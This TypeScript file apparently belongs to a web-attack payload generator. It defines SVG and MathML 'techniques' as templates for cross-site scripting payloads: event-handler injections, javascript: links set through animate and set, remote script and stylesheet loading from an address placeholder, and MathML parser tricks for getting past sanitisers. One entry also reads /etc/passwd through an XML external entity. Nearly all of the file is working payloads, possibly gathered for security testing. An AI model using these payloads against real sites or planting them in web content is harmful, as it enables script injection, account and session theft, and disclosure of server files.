import { decimal } from '../character-references.ts'
import type { Category } from '../vector.ts'

export const SVG: Category = {
  name: 'svg',
  kind: 'html',
  source:
    'OWASP: SVG object tag; html5sec: SVG script, animate, set, use, foreignObject, handler, image, feImage, style',
  techniques: [
    ['onload', ({ call }) => `<svg onload=${call}>`],
    ['onload-with-slash', ({ call }) => `<svg/onload=${call}>`],
    ['script', ({ call }) => `<svg><script>${call}</script></svg>`],
    ['script-by-link', ({ address }) => `<svg><script xlink:href=${address}.js /></svg>`],
    ['script-of-data', ({ call }) => `<svg><script href="data:,${call}" /></svg>`],
    ['script-referenced', ({ call }) => `<svg><script>${decimal(call)}</script></svg>`],
    ['script-in-cdata', ({ call }) => `<svg><script><![CDATA[${call}]]></script></svg>`],
    ['link', ({ call }) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`],
    [
      'link-by-animation',
      ({ call }) => `<svg><a><animate attributeName=href values="javascript:${call}" /><text y=20>x</text></a></svg>`,
    ],
    [
      'link-by-set',
      ({ call }) => `<svg><a><set attributeName=href to="javascript:${call}" /><text y=20>x</text></a></svg>`,
    ],
    ['set-handler', ({ call }) => `<svg><set attributeName=onmouseover to=${call} /></svg>`],
    ['animation-handler', ({ call }) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`],
    ['transformation-handler', ({ call }) => `<svg><animateTransform onbegin=${call} attributeName=transform></svg>`],
    ['discard-handler', ({ call }) => `<svg><discard onbegin=${call}></svg>`],
    ['end-handler', ({ call }) => `<svg><animate onend=${call} attributeName=x dur=.01s></svg>`],
    [
      'use-of-data',
      ({ call }) =>
        `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${call}'/></svg>#x" /></svg>`,
    ],
    ['use-of-stranger', ({ address }) => `<svg><use href="${address}.svg#x" /></svg>`],
    ['image', ({ address }) => `<svg><image href="${address}.png" /></svg>`],
    ['image-handler', ({ call }) => `<svg><image href=x onerror=${call}></svg>`],
    [
      'filter-image',
      ({ address }) =>
        `<svg><filter id=f><feImage href="${address}.png" /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
    ],
    ['foreign-body', ({ call }) => `<svg><foreignObject><body onload=${call}></foreignObject></svg>`],
    [
      'foreign-frame',
      ({ call }) =>
        `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
    ],
    ['foreign-image', ({ call }) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`],
    [
      'description-image',
      ({ call }) => `<svg><desc><img src=x onerror=${call}></desc><title><img src=x onerror=${call}></title></svg>`,
    ],
    [
      'event-handler-element',
      ({ call }) => `<svg><handler ev:event=load xmlns:ev="http://www.w3.org/2001/xml-events">${call}</handler></svg>`,
    ],
    ['style-with-image', ({ call }) => `<svg><style><img src=x onerror=${call}></style></svg>`],
    ['style-import', ({ address }) => `<svg><style>@import'${address}.css';</style></svg>`],
    ['focus', ({ call }) => `<svg><a href=# onfocus=${call} autofocus tabindex=1><text y=20>x</text></a></svg>`],
    [
      'in-image',
      ({ call }) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${call}'/>">`,
    ],
    [
      'in-embed',
      ({ call }) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.${call}'/>">`,
    ],
    [
      'entity',
      ({ call }) =>
        `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f "<img src=x onerror=${call}>">]><svg>&e;&f;</svg>`,
    ],
  ],
}

export const MATHML: Category = {
  name: 'mathml',
  kind: 'html',
  source: 'html5sec: MathML links and maction; published bypasses of sanitisers by MathML text integration points',
  techniques: [
    ['link', ({ call }) => `<math href="javascript:${call}"><mi>x</mi></math>`],
    ['linked-identifier', ({ call }) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`],
    [
      'status-line',
      ({ call }) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">x</maction></math>`,
    ],
    ['text-with-script', ({ call }) => `<math><mtext><script>${call}</script></mtext></math>`],
    [
      'annotation',
      ({ call }) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call}></annotation-xml></math>`,
    ],
    [
      'semantics',
      ({ call }) =>
        `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${call}</script></annotation-xml></semantics></math>`,
    ],
    [
      'glyph',
      ({ call }) =>
        `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;"></mglyph></mtext></math>`,
    ],
    [
      'table-in-text',
      ({ call }) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${call}">`,
    ],
    ['form-in-text', ({ call }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`],
    ['mark-in-text', ({ call }) => `<math><mtext><malignmark><style><!--</style><img src=x onerror=${call}>`],
    ['style-comment', ({ call }) => `<math><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`],
    ['handler', ({ call }) => `<math onmouseover=${call} tabindex=1 autofocus onfocus=${call}><mi>x</mi></math>`],
  ],
}
